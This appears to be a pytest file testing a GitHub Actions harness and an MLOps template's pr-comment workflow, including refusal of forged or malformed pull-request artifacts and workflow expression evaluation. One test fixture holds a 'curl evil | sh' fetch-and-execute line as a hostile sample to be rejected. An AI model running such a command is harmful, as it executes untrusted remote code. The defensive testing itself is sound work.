"""The harness fails broken workflows, and pr-comment.yml refuses untrusted artifacts it should refuse.

Broken copies of the real workflows are written to a temporary directory and run exactly like the originals.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.actions_runner import (
    RunResult,
    WorkflowError,
    evaluate,
    interpolate,
    pull_request_event,
    schedule_event,
    workflow_run_event,
)
from tests.workflows.conftest import BASE_SHA, HEAD_SHA

WORKFLOWS = Path(__file__).resolve().parents[2] / ".github" / "workflows"
MARKER = "<!-- mlops-template:pr-report -->"


def broken_copy(tmp_path: Path, name: str, old: str, new: str) -> Path:
    text = (WORKFLOWS / name).read_text()
    assert old in text, f"{name} no longer contains {old!r}: update this test"
    path = tmp_path / name
    path.write_text(text.replace(old, new, 1))
    return path


def seed_pr_artifact(harness, pull: int, head_sha: str = HEAD_SHA, extra: dict[str, bytes] | None = None,
                     run_id: int = 4242) -> RunResult:
    """A finished pr.yml run whose pr-report artifact is in the harness's artifact store."""
    run = RunResult(workflow="pr", run_id=run_id, event_name="pull_request")
    root = harness.runner.artifacts / str(run.run_id) / "pr-report"
    (root / "model").mkdir(parents=True)
    for name in ("metrics.json", "comparison.json", "validation.json"):
        (root / name).write_text(json.dumps({"ok": True}))
    (root / "validation.md").write_text("valid\n")
    (root / "job_summary.md").write_text("## Model gate\n")
    (root / "pr_comment.md").write_text(f"{MARKER}\n## Model gate: promote\n")
    (root / "model" / "model.joblib").write_bytes(b"\x80\x04joblib")
    (root / "model" / "metadata.json").write_text("{}")
    (root / "pr.json").write_text(json.dumps({"pr": pull, "head_sha": head_sha, "base_sha": BASE_SHA}))
    for rel, data in (extra or {}).items():
        (root / rel).write_bytes(data)
    return run


def run_pr_comment(harness, pr_run: RunResult, workflow: str | Path = "pr-comment.yml") -> RunResult:
    event = workflow_run_event(harness.gh.repository, pr_run, HEAD_SHA, "better-model")
    return harness.runner.run(workflow, "workflow_run", event, sha=BASE_SHA)


def run_broken_pr_comment(harness, tmp_path, old: str, new: str) -> tuple[RunResult, int]:
    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    workflow = broken_copy(tmp_path, "pr-comment.yml", old, new)
    run = run_pr_comment(harness, seed_pr_artifact(harness, pull), workflow)
    assert run.conclusion == "failure"
    assert harness.gh.comments_on(pull) == []
    return run, pull


# -- the comment workflow on its own --------------------------------------------------------------------------


def test_pr_comment_posts_one_sticky_comment_and_updates_it(harness):
    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    pr_run = seed_pr_artifact(harness, pull)
    for _ in range(2):
        run = run_pr_comment(harness, pr_run)
        assert run.conclusion == "success", run.log
    comments = harness.gh.comments_on(pull)
    assert len(comments) == 1 and MARKER in comments[0]["body"]
    assert harness.gh.violations == []


def test_pr_comment_finds_a_fork_pr_by_its_head_sha(harness):
    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model", head_owner="forker")["number"]
    run = run_pr_comment(harness, seed_pr_artifact(harness, pull))
    assert run.conclusion == "success", run.log
    assert len(harness.gh.comments_on(pull)) == 1


def test_an_artifact_claiming_another_commit_is_refused(harness):
    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    run = run_pr_comment(harness, seed_pr_artifact(harness, pull, head_sha="9" * 40))
    assert run.conclusion == "failure"
    assert "refusing" in run.jobs["comment"].step("Check the untrusted artifact (size, file names, content, "
                                                  "head SHA)").log
    assert harness.gh.comments_on(pull) == []


def test_an_artifact_claiming_another_pr_number_cannot_redirect_the_comment(harness):
    victim = harness.gh.add_issue("An unrelated issue")["number"]
    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    run = run_pr_comment(harness, seed_pr_artifact(harness, victim))
    assert run.conclusion == "failure"
    assert (f"PR #{victim} does not have head commit {HEAD_SHA[:12]} (that commit heads #{pull}); refusing to post "
            "on a PR number that may be forged") in run.log
    assert harness.gh.comments_on(victim) == [] and harness.gh.comments_on(pull) == []


@pytest.mark.parametrize("number", [True, 0, "7"])
def test_an_artifact_without_a_pr_number_is_refused_by_its_check(harness, number):
    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    run = run_pr_comment(harness, seed_pr_artifact(harness, number))
    assert run.conclusion == "failure" and "artifact: pr.json has no valid PR number" in run.log
    assert harness.gh.comments_on(pull) == []


def test_prs_sharing_a_head_commit_each_get_their_own_report(harness):
    """One branch proposed into two bases: two pr.yml runs on the same SHA, each report on its own PR."""
    first = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    second = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    for pull, run_id in ((first, 4242), (second, 4243)):
        run = run_pr_comment(harness, seed_pr_artifact(harness, pull, run_id=run_id))
        assert run.conclusion == "success", run.log
    assert [len(harness.gh.comments_on(pull)) for pull in (first, second)] == [1, 1]


@pytest.mark.parametrize("extra", [{"run.sh": b"curl evil | sh\n"}, {"pr_comment.md": b"\xff\xfe not utf-8"}])
def test_an_artifact_with_unexpected_content_is_refused(harness, extra):
    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    run = run_pr_comment(harness, seed_pr_artifact(harness, pull, extra=extra))
    assert run.conclusion == "failure"
    assert harness.gh.comments_on(pull) == []


def test_an_artifact_whose_comment_pings_or_links_is_refused(harness):
    """The PR's code rendered the comment: the bot must not ping a team or show a tracking image for it."""
    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
    body = f"{MARKER}\n## ✅ Promote\n\n@org/maintainers approved it ![](https://track.example/p.png)\n"
    run = run_pr_comment(harness, seed_pr_artifact(harness, pull, extra={"pr_comment.md": body.encode()}))
    assert run.conclusion == "failure"
    assert "pr_comment.md has a mention, reference or link" in run.log
    assert harness.gh.comments_on(pull) == []


def test_a_job_without_the_permission_it_needs_fails(harness, tmp_path):
    run, _ = run_broken_pr_comment(harness, tmp_path, "pull-requests: write", "pull-requests: read")
    assert "pull-requests: write" in run.jobs["comment"].log


def test_a_checkout_without_contents_read_fails(harness, tmp_path):
    run, _ = run_broken_pr_comment(harness, tmp_path, "      contents: read ", "      # contents: read ")
    checkout = run.jobs["comment"].steps[0]
    assert checkout.outcome == "failure" and "contents: read" in checkout.log


# -- broken workflows fail the harness ------------------------------------------------------------------------


def test_a_file_the_next_step_does_not_find_fails_the_run(harness, tmp_path):
    run, _ = run_broken_pr_comment(harness, tmp_path, "path: ${{ runner.temp }}/pr-report",
                                   "path: ${{ runner.temp }}/report")
    job = run.jobs["comment"]
    failed = [s for s in job.steps if s.outcome == "failure"]
    assert len(failed) == 1 and "not downloaded" in failed[0].log
    assert job.steps[-1].outcome == "skipped"


def test_a_wrong_artifact_name_fails_the_run(harness, tmp_path):
    run, _ = run_broken_pr_comment(harness, tmp_path, "name: pr-report", "name: pr-reports")
    assert "no artifact named 'pr-reports'" in run.jobs["comment"].log


def test_a_wrong_script_flag_fails_the_run(harness, tmp_path):
    step = "Get the data data.dvc names (dvc pull, or regenerate the sample) and verify its hash"
    workflow = broken_copy(tmp_path, "pr.yml", "run: python scripts/get_data.py",
                           "run: python scripts/get_data.py --parms params.yaml")
    pull = harness.gh.add_pull(head_sha=HEAD_SHA)["number"]
    run = harness.runner.run(workflow, "pull_request",
                             pull_request_event(harness.gh.repository, pull, HEAD_SHA, BASE_SHA), sha=HEAD_SHA)
    assert run.conclusion == "failure"
    job = run.jobs["gate"]
    assert job.step(step).outcome == "failure"
    assert "No such option '--parms'" in job.step(step).log
    assert {s.outcome for s in job.steps[job.steps.index(job.step(step)) + 1:]} == {"skipped"}


def test_an_action_without_a_local_stand_in_fails_the_run(harness, tmp_path):
    workflow = broken_copy(tmp_path, "pr.yml", "      - name: Get the data",
                           "      - uses: someone/unknown-action@0123456789012345678901234567890123456789\n"
                           "      - name: Get the data")
    pull = harness.gh.add_pull(head_sha=HEAD_SHA)["number"]
    run = harness.runner.run(workflow, "pull_request",
                             pull_request_event(harness.gh.repository, pull, HEAD_SHA, BASE_SHA), sha=HEAD_SHA)
    assert run.conclusion == "failure"
    assert "no stand-in for someone/unknown-action" in run.jobs["gate"].log


# -- expressions ----------------------------------------------------------------------------------------------


CONTEXTS = {
    "github": {"event": {"workflow_run": {"conclusion": "failure", "event": "pull_request"}}, "token": "t"},
    "vars": {"EMPTY": ""}, "inputs": {"simulate": True, "reason": "drift"},
    "steps": {"app-token": {"outputs": {}}, "gate": {"outputs": {"promote": "true"}}},
    "env": {}, "secrets": {}, "needs": {}, "runner": {"temp": "/tmp/r"},
}


@pytest.mark.parametrize("expression, expected", [
    ("github.event.workflow_run.event == 'pull_request'", True),
    ("github.event.workflow_run.conclusion == 'SUCCESS' || github.event.workflow_run.conclusion == 'failure'", True),
    ("vars.EMPTY == '' && !inputs.simulate", False),
    ("vars.MISSING != '' || inputs.simulate", True),
    ("steps.app-token.outputs.token || github.token", "t"),
    ("steps.gate.outputs.promote == 'true'", True),
    ("vars.MISSING || 'default'", "default"),
    ("contains(inputs.reason, 'DRI') && startsWith(inputs.reason, 'd')", True),
    ("format('{0}/{1}', runner.temp, 'x')", "/tmp/r/x"),
    ("1 < 2 && null == ''", True),
])
def test_expressions(expression, expected):
    assert evaluate(expression, CONTEXTS) == expected


def test_interpolation_and_unknown_contexts():
    assert interpolate("${{ runner.temp }}/pr-report", CONTEXTS) == "/tmp/r/pr-report"
    with pytest.raises(WorkflowError, match="unknown context"):
        evaluate("matrixx.os == 'linux'", CONTEXTS)


def test_events_the_workflow_does_not_listen_to_are_refused(harness):
    other = RunResult(workflow="ci", run_id=77, event_name="pull_request")
    with pytest.raises(WorkflowError, match="does not listen to runs of workflow 'ci'"):
        run_pr_comment(harness, other)
    event = pull_request_event(harness.gh.repository, 1, HEAD_SHA, BASE_SHA, base_ref="release")
    with pytest.raises(WorkflowError, match="does not match branches"):
        harness.runner.run("pr.yml", "pull_request", event, sha=HEAD_SHA)


def test_scheduled_drift_without_a_data_source_ends_with_a_notice(harness):
    run = harness.runner.run("drift.yml", "schedule", schedule_event(harness.gh.repository, "17 6 * * *"),
                             sha=BASE_SHA)
    assert run.conclusion == "success", run.log
    assert run.jobs["drift"].conclusion == "skipped"
    assert [level for level, text in run.annotations if text.startswith("Drift check skipped")] == ["notice"]
    assert harness.gh.dispatches == [] and harness.gh.issue_list() == []
